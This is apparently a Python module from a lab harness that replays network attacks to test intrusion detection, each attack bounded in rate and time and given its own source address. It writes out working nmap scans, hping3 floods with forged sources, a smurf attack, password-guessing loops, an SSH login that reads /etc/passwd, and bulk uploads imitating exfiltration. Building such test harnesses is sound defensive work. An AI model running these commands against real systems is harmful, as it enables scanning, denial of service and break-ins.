# SPDX-License-Identifier: Apache-2.0
"""The attacks: programs with their arguments, each bounded in rate and time.

Each attack has an attacker address that no other has, so that an alert shows which attack it is
about. `{web}`, `{files}`, `{names}` and `{attacker}` stand for addresses.
"""

import dataclasses

from network import CLIENTS, FILES, FIRST_ATTACKER, NAMES, PREFIX, REFLECTORS, SWEPT, WEB
from servers import PASSWORD


@dataclasses.dataclass
class Attack:
    name: str
    command: str  # a line of shell
    target: str = WEB.address  # an address, or the beginning of addresses
    is_forged: bool = False  # source addresses are not the attacker's
    victims: tuple = ()  # addresses that the attacker uses as if they were its own
    seconds: int = 30  # the command is killed after this time
    address: str = ""
    begin: float = 0.0  # wall clock
    end: float = 0.0

    def line(self):
        return self.command.format(
            web=WEB.address, files=FILES.address, names=NAMES.address, attacker=self.address,
            decoy1=CLIENTS[0].address, decoy2=CLIENTS[3].address, gateway=PREFIX + "1",
            reflectors=REFLECTORS, swept=SWEPT, password=PASSWORD)


NMAP = "nmap -n -Pn --max-retries 1 "
FAST = "--max-rate 300 --min-rate 200 "
SSH = ("ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR "
       "-o ConnectTimeout=5 -o NumberOfPasswordPrompts=1 ")
GUESS_SSH = ("for i in $(seq {n}); do sshpass -p guess-$i " + SSH + "alice@{{web}} id & "
             "[ $((i % 3)) -eq 0 ] && wait; done; wait; ")
HOSTILE = "/usr/bin/python3 $HERE/hostile.py "
BIG = 24_000_000  # bytes; servers.UPLOADS is the most of an ordinary one

ATTACKS = [
    Attack("syn-scan", NMAP + FAST + "-sS -p1-1000 {web}"),
    Attack("connect-scan", NMAP + FAST + "-sT -p1-1000 {files}", FILES.address),
    Attack("udp-scan", NMAP + "-sU -p 69,111,123,137,161,500,514,1900,5353 {names}",
           NAMES.address),
    Attack("fin-scan", NMAP + FAST + "-sF -p1-300 {web}"),
    Attack("xmas-scan", NMAP + FAST + "-sX -p1-300 {files}", FILES.address),
    Attack("fragment-scan", NMAP + FAST + "-sS -f -p1-300 {web}"),
    Attack("scan-from-53", NMAP + FAST + "-sS -g 53 -p1-300 {files}", FILES.address),
    Attack("scan-from-20", NMAP + FAST + "-sS -g 20 -p1-300 {web}"),
    Attack("decoy-scan", NMAP + FAST + "-sS -D {decoy1},{decoy2},ME -p1-300 {web}"),
    Attack("version-scan", NMAP + "-sV --version-light -p 21,22,25,53,80,110,143,3306 {files}",
           FILES.address),
    Attack("os-scan", NMAP + FAST + "-O --max-os-tries 1 -p1-200 {web}"),
    Attack("slow-scan", NMAP + "-sS -T2 -p 19,23,79,111,135,139,389,513,1433,3306,3389,5432 {web}"),
    Attack("sweep-445", NMAP.replace("retries 1", "retries 0")
           + "--min-rate 60 --max-rate 100 -sS -p445 {swept}0/24", SWEPT),
    Attack("ping-sweep", "nmap -n -sn -PE --max-retries 0 --max-rate 100 {reflectors}0/24",
           REFLECTORS),
    Attack("syn-flood", "timeout 6 hping3 -q -S -p 80 -i u600 {web}"),
    Attack("syn-flood-forged", "timeout 7 hping3 -q -S -p 80 -i u600 --rand-source {web}",
           is_forged=True),
    Attack("udp-flood-forged", "timeout 6 hping3 -q -2 -d 60 -p 53 -i u1000 --rand-source {names}",
           NAMES.address, is_forged=True),
    Attack("icmp-flood", "timeout 6 hping3 -q -1 -d 120 -i u1000 {web}"),
    Attack("icmp-flood-forged", "timeout 6 hping3 -q -1 -d 120 -i u1000 --rand-source {web}",
           is_forged=True),
    Attack("smurf", "timeout 5 hping3 -q -1 -d 400 -i u2000 -a {names} -I eth0 "
           "--rand-dest {reflectors}x", NAMES.address, is_forged=True, victims=(NAMES.address,)),
    Attack("ssh-guess", GUESS_SSH.format(n=30)),
    Attack("ssh-guessed", GUESS_SSH.format(n=18) + "sshpass -p {password} " + SSH
           + "alice@{web} 'cat /etc/passwd'"),
    Attack("ftp-guess", "for i in $(seq 20); do curl -s -m 5 -u dave:guess-$i ftp://{files}/; done",
           FILES.address),
    Attack("http-guess", "for i in $(seq 60); do curl -s -m 5 -o /dev/null -u admin:guess-$i "
           "http://{web}/private/; sleep .05; done"),
    Attack("pop3-guess", HOSTILE + "pop3-guess {files}", FILES.address),
    Attack("slow-http", HOSTILE + "slow-http {web}"),
    Attack("upload-https", f"head -c {BIG} /dev/urandom | curl -sk --limit-rate 6M -o /dev/null "
           "--data-binary @- https://{web}/upload"),
    Attack("upload-ftp", f"head -c {BIG} /dev/urandom | curl -s --limit-rate 6M -u bob:{{password}}"
           " -T - ftp://{files}/stolen", FILES.address),
    Attack("upload-ssh", f"head -c {BIG} /dev/urandom | sshpass -p {{password}} " + SSH
           + "bob@{web} 'cat >/dev/null'"),
    Attack("dns-tunnel", HOSTILE + "tunnel {names}", NAMES.address),
    Attack("beacon", HOSTILE + "beacon {web} 80"),
    Attack("odd-port", HOSTILE + "odd-port {web} 31337"),
    Attack("ssh-odd-port", "for i in 1 2 3 4; do sshpass -p {password} " + SSH
           + "-p 2222 bob@{web} id; done"),
    Attack("http-odd-port", "for i in 1 2 3 4; do curl -s -o /dev/null "
           "http://{web}:8088/report.pdf; done"),
]
for number, attack in enumerate(ATTACKS):
    attack.address = f"{PREFIX}{FIRST_ATTACKER + number}"


def chosen(names):
    """The attacks of these names, in the order of the table; without names, all."""
    known = {a.name for a in ATTACKS}
    if unknown := [n for n in names if n not in known]:
        raise ValueError("no attack " + ", ".join(unknown))
    return [a for a in ATTACKS if not names or a.name in names]
